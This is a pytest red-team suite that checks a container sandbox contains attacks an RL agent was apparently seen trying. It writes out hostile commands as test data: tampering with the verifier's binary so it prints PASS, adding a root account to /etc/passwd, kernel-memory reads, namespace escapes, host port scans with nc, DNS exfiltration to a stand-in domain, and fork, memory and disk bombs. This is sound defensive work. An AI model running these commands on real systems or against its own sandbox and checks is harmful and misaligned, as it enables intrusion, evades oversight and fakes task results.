"""Red-team suite: each test is one attack an RL agent was seen trying, run as root inside a
sandbox. Each must fail, and the failure must be visible to the operator: the command's
result as recorded by the API (exit status and error text), a counter (denied packets, DNS
refusals, OOM kills, pids), or the edge's log."""

from __future__ import annotations

import os
import sys
import time

import pytest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), ".."))

from helpers import find_dsec_bin, stop_quietly  # noqa: E402
from netfixture import NPM, PYPI, PYPI6, HostListener, NetUp, TestServers, denied, get, run  # noqa: E402

import dsec  # noqa: E402


@pytest.fixture(scope="module")
def rt():
    b = find_dsec_bin()
    if b is None:
        pytest.skip("no dsec binary")
    srv = TestServers().start()
    up = NetUp(b, "redteam")
    up.start()
    c = up.client()
    yield up, c
    c.close()
    try:
        assert up.finish() == 0
    finally:
        srv.stop()


@pytest.fixture
def victim(rt):
    _, c = rt
    sb = c.run_container(
        dsec.DSecContainerRunArgs(
            container_image="busybox",
            network_rules={"pypi": True},
            protected_paths=["/bin/busybox", "/etc/passwd"],
            disk_limit_mb=32,
            memory_limit_mb=128,
            pids_limit=64,
        ),
        timeout=60,
    )
    yield sb
    stop_quietly(sb)


def fails(sb, cmd, timeout=30):
    code, out = run(sb, cmd, timeout=timeout)
    assert code != 0, f"attack succeeded: {cmd!r}: {out}"
    return out


# --- the harness: logs, other sandboxes, the edge's channel -------------------------------


def test_read_edge_logs_and_other_sandboxes(rt, victim):
    up, c = rt
    other = c.run_container(dsec.DSecContainerRunArgs(container_image="busybox"), timeout=60)
    try:
        run(other, "echo secret-answer > /root/answer")
        host_dir = up.sandbox_dir(other.id)
        for path in [up.stderr_path, host_dir, f"{host_dir}/upper/root/answer", up.data_dir]:
            out = fails(victim, f"cat {path} || ls {path}")
            assert "secret-answer" not in out
        out = run(victim, "grep -r secret-answer / 2>/dev/null | head -1")[1]
        assert "secret-answer" not in out
    finally:
        stop_quietly(other)


def test_forge_requests_to_edge_apiserver_aether(rt, victim):
    up, _ = rt
    port = up.port
    d0 = denied(victim)
    # The sandbox's 127.0.0.1 is its own loopback, not the host's where the API listens.
    fails(victim, get(f"http://127.0.0.1:{port}/healthz"))
    fails(victim, get(f"http://10.231.0.1:{port}/healthz"))
    # Even a host service listening on every address is closed to the sandbox.
    svc = HostListener()
    try:
        for host in ["10.231.0.1", "198.18.7.1"]:
            out = fails(victim, get(f"http://{host}:{svc.port}/"))
            assert "host-secret-service" not in out
        assert svc.accepted == 0
    finally:
        svc.close()
    # aether's channel is an inherited fd, not a path, and hidden from /proc.
    fails(victim, "ls -l /proc/1/fd/3")
    fails(victim, "ls /run/*.sock /*.sock /tmp/*.sock 2>/dev/null | grep .")
    assert denied(victim) > d0


# --- tampering with the verifier's tools ---------------------------------------------------


def test_overwrite_protected_binary_and_test_file(victim):
    out = fails(victim, "echo 'echo PASS' > /bin/busybox")
    fails(victim, "cp /bin/busybox /tmp/x && mv /tmp/x /bin/busybox")
    fails(victim, "rm -f /bin/busybox")
    fails(victim, "echo 'x::0:0::/:/bin/sh' >> /etc/passwd")
    # The verifier's command still runs the untampered busybox.
    code, out = run(victim, "busybox echo verifier-ok")
    assert code == 0 and "verifier-ok" in out
    # Everything else stays writable: other directories fully, and the other entries of the
    # protected paths' parents (whose entry lists Landlock freezes, see
    # crates/aether/src/setup/landlock.rs), e.g. /etc/hosts next to /etc/passwd.
    code, out = run(victim, "echo fine > /root/f && echo fine > /tmp/f && mkdir -p /root/work/x && echo ok > /root/work/x/y"
                            " && echo '# ok' >> /etc/hosts && rm /root/f")
    assert code == 0, out
    # The protected entries' parents take no new entries (renaming a copy over them is the attack).
    fails(victim, "touch /bin/busybox2")


# --- the kernel ----------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/proc/kpagecgroup", "/proc/kcore", "/dev/mem", "/proc/sysrq-trigger"])
def test_read_kernel_memory(victim, path):
    # Masked (absent, or /dev/null bound over it): not one byte of kernel memory comes back.
    code, out = run(victim, f"head -c 16 {path} 2>/dev/null | wc -c")
    assert code == 0 and out.strip() == "0", (path, out)
    fails(victim, f"n=$(head -c 16 {path} | wc -c); [ $n -gt 0 ]")


def test_firmware_masked(victim):
    code, out = run(victim, "ls /sys/firmware | wc -l")
    assert out.strip() in ("0", ""), out


@pytest.mark.parametrize("cmd", [
    "mount -t tmpfs none /mnt",
    "unshare -m true",
    "unshare -n true",
    "nsenter -t 1 -m true",
    "mknod /tmp/sda b 8 0",
    "insmod /nonexistent.ko",
    "hostname evil",
    "date -s 2001-01-01 2>&1 | grep -q 'not permitted' && exit 1; [ $(date +%Y) = 2001 ]",
])
def test_privileged_operations(victim, cmd):
    fails(victim, cmd)


def test_ptrace_pid1_and_kill_all(victim):
    fails(victim, "cat /proc/1/environ")
    fails(victim, "ls /proc/1/")
    run(victim, "kill -9 -1", timeout=10)
    # The sandbox survives, and so does everything outside it.
    code, out = run(victim, "echo alive")
    assert code == 0 and "alive" in out


# --- the network ---------------------------------------------------------------------------


def test_scan_host_ports(victim):
    d0 = denied(victim)
    out = run(victim, "for p in 22 80 443 7701 8080; do nc -w 1 10.231.0.1 $p </dev/null && echo OPEN$p; nc -w 1 198.18.7.1 $p </dev/null && echo OPEN$p; done", timeout=60)[1]
    assert "OPEN" not in out
    assert denied(victim) >= d0 + 5


def test_non_allowed_domain_by_name_ip_resolver_tunnel_v6_port(victim):
    st0 = victim.network()
    fails(victim, get("http://npm.test/"))
    fails(victim, get(f"http://{NPM}/"))
    fails(victim, f"nslookup npm.test {PYPI}")                      # a non-allowed resolver
    run(victim, "for i in 1 2 3; do nslookup $(echo leak$i | od -An -tx1 | tr -d ' \\n').t.evil.test; done")
    fails(victim, get(f"http://[{PYPI6}]/"))           # over IPv6
    fails(victim, get("http://pypi.test:8080/"))       # non-allowed port of an allowed host
    st = victim.network()
    assert st["denied_packets"] > st0["denied_packets"]
    assert st["dns_refused"] >= st0["dns_refused"] + 4
    # The allowed one works, so the failures above are the policy, not a broken network.
    assert "reference-solution-42" in run(victim, get("http://pypi.test/"))[1]


# --- resources -----------------------------------------------------------------------------


def test_fill_disk(rt, victim):
    _, c = rt
    neighbour = c.run_container(dsec.DSecContainerRunArgs(container_image="busybox", disk_limit_mb=32), timeout=60)
    try:
        out = run(victim, "yes > /root/fill; echo rc=$?", timeout=60)[1]
        assert "No space left" in out or "rc=1" in out, out
        # The neighbour can still write.
        assert run(neighbour, "head -c 4000000 /dev/zero > /root/f && echo ok")[1].strip() == "ok"
        run(victim, "rm -f /root/fill")
    finally:
        stop_quietly(neighbour)


def test_fork_bomb(victim):
    r = victim.run_shell("f(){ f | f & }; f; sleep 3; echo done", timeout=20)
    code, out = run(victim, "echo survived")
    assert code == 0 and "survived" in out


def test_memory_bomb(victim):
    r = victim.run_shell("head -c 400m /dev/zero | tail > /dev/null", timeout=30)
    assert r.oom_killed or r.exit_code != 0
    assert run(victim, "echo survived")[1].strip() == "survived"


def test_cpu_hog_neighbour(rt):
    _, c = rt
    hog = c.run_container(dsec.DSecContainerRunArgs(container_image="busybox", cpu_cores_limit=0.5), timeout=60)
    ls = c.run_container(dsec.DSecContainerRunArgs(container_image="busybox", cpu_cores_limit=1.0), timeout=60)
    try:
        def timed():
            r = ls.run_shell("time -f %e sh -c 'i=0; while [ $i -lt 200000 ]; do i=$((i+1)); done' 2>&1 | tail -1", timeout=60)
            return float(r.stdout.strip().split()[-1])
        base = timed()
        hog.run_shell("for i in 1 2 3 4; do (while :; do :; done) & done", timeout=5)
        loaded = timed()
        # The hog is capped at half a core; the neighbour keeps most of its own core.
        assert loaded < base * 2.0 + 0.5, (base, loaded)
    finally:
        stop_quietly(hog)
        stop_quietly(ls)


def _timed(sb, cmd, timeout=120):
    t = time.monotonic()
    code, out = run(sb, cmd, timeout=timeout)
    assert code == 0, out
    return time.monotonic() - t


def _loop_bytes_written(dev):
    """Bytes written to a device as the v1 blkio root accounts them (flusher writeback too)."""
    try:
        with open("/sys/fs/cgroup/blkio/blkio.throttle.io_service_bytes") as f:
            return sum(int(l.split()[2]) for l in f if l.startswith(dev + " Write"))
    except OSError:
        return None


def test_disk_flood_does_not_starve_neighbour(rt):
    """`yes > f` in one sandbox (its writable layer on its own loop device, capped at
    disk_bps_limit_mb = 32 MiB/s) while a neighbour does fsync'd writes: the neighbour's time
    stays within a small factor of its idle time, and the flood reaches the disk at about
    the cap (visible to the operator in the blkio root's per-device counters)."""
    up, c = rt
    hog = c.run_container(dsec.DSecContainerRunArgs(container_image="busybox", disk_limit_mb=4096,
                                                    memory_limit_mb=512), timeout=60)
    nb = c.run_container(dsec.DSecContainerRunArgs(container_image="busybox", disk_limit_mb=64), timeout=60)
    try:
        work = "dd if=/dev/zero of=/root/g bs=1M count=8 conv=fsync 2>/dev/null && rm /root/g && sync"
        base = min(_timed(nb, work) for _ in range(3))
        with open(os.path.join(up.sandbox_dir(hog.id), "disk.dev")) as f:
            dev = f.read().strip()
        w0 = _loop_bytes_written(dev)
        t0 = time.monotonic()
        run(hog, "nohup sh -c 'yes > /root/f' >/dev/null 2>&1 &")
        time.sleep(3)
        loaded = max(_timed(nb, work) for _ in range(3))
        elapsed = time.monotonic() - t0
        w1 = _loop_bytes_written(dev)
        run(hog, "pkill yes; rm -f /root/f")
        print(f"neighbour fsync'd 8 MiB: idle {base:.2f} s, during the flood {loaded:.2f} s; "
              f"flood wrote {(w1 - w0) / elapsed / 2**20 if w0 is not None else -1:.1f} MiB/s to its loop device")
        assert loaded < base * 4 + 1.5, (base, loaded)
        if w0 is not None:
            assert (w1 - w0) / elapsed < 32 * 2**20 * 1.5, "the flood's writeback is capped"
    finally:
        stop_quietly(hog)
        stop_quietly(nb)
